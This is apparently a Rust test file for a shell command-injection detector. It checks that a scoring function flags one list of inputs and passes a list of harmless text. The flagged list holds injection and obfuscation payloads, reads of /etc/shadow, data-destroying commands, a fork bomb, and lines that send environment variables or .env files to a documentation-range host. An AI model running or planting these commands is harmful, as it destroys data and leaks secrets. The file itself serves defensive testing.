//! Commands that several signs make together, and signs that make none.

use super::met;

/// None of these has one sign that decides: a program that no table holds, an ordinary word for a name, a step
/// before it, a spelling that only a shell puts together.
static BY_EVIDENCE: &[&str] = &[
    // Names that nothing knows, with what a program is given.
    ";zxtool --dump /srv",
    "198.51.100.4|frobctl -a 203.0.113.9",
    "10.1.2.3; /usr/sbin/knockd -d",
    "x' ; qtool -v 'y",
    "--lang de & start.bat",
    // Ordinary words for names.
    "198.51.100.4 && service nginx stop",
    "2026-11-02; touch PWNED; #",
    "/srv/a; touch pwned",
    ";column -t notes.csv",
    "a;touch x;.png",
    "7)|id|(7",
    "\"|id\"@a.example",
    "sort||",
    "\tid",
    // Steps before them.
    "cd /; cd etc; fold shadow",
    "cd / && ls",
    "k=/etc&&f=/shadow&&t=nl&&$t $k$f",
    "d=e;cho='ch';$d$cho x | sh",
    "p='i';d='d'; x=$p$d; $x",
    // Names in pieces.
    "un$$ame -a",
    "10.0.0.1;c$?url 203.0.113.9",
    "ping`` 203.0.113.9",
    "ca<()t /etc/hostname",
    "who\"\"am\"\"i",
    "${@}cat /etc/hostname",
    "nma? -p 443 203.0.113.9",
    "t^ime curl 203.0.113.9",
    "/bin/l`echo s` /srv",
    "$'\\167\\150\\157\\141\\155\\151'",
    "$((~$(($((1))))))",
    "${PWD::1}???${PWD::1}??t ????.???",
    // Attached to a value.
    "img`touch z`",
    "a.tar$(xclock)",
    "$(xeyes).gif",
    "/a $(id)",
    "echo $(whoami)",
    "eval echo '$(id)'",
    // What ends a system, or sends away what it holds.
    "sudo rm -fr $HOME",
    "make install; sudo shutdown -h now",
    "sudo dd if=/dev/zero of=/dev/sdb",
    "find /home -type f -delete",
    "env | nc 203.0.113.9 4444",
    "curl -F f=@.env https://a.example",
    "a(){ a|a& };a",
    "wget -qO- https://a.example/i |\n  sudo bash",
    "bash <<X\nid\nX",
    // Of Windows.
    "for %a in (1 2) do echo %a",
    "if exist c:\\x (echo y)",
    "set a=who&& set b=ami&& call %a%%b%",
    ";regedit HKLM\\Software\\X",
];

#[test]
fn evidence_of_several_kinds_makes_a_command() {
    let missed: Vec<_> = BY_EVIDENCE.iter().filter(|attack| met(attack).0 < 5).collect();
    assert!(missed.is_empty(), "not found: {missed:#?}");
}

/// Each has some of the same signs, and not enough of them.
static WITHOUT_EVIDENCE: &[&str] = &[
    "; tabs, not spaces",
    "a; touch base",
    "files; directories -- and links",
    "lunch; back at 5",
    "salt & pepper -- to taste",
    "either/or; neither -nor",
    "1. `gnome-terminal`",
    "`make -j4`",
    "see `xclock` and `xeyes`",
    "$(CC) -o $@ $<",
    "x=$(pwd)",
    "| tool | port |\n| nmap | 443 |",
    "id;sort;limit;page",
    "?sort=a&top&date",
    "set the date; mount the disk",
    "rm -rf node_modules",
    "make && make install",
    "cd src && ls",
    "env | grep -i path",
    "find . -name '*.rs' | xargs wc -l",
    "if exists then skip, else copy",
    "for % in a sentence do nothing",
];

#[test]
fn signs_alone_make_no_command() {
    let found: Vec<_> =
        WITHOUT_EVIDENCE.iter().map(|text| (text, met(text))).filter(|(_, met)| met.0 >= 5).collect();
    assert!(found.is_empty(), "found: {found:#?}");
}
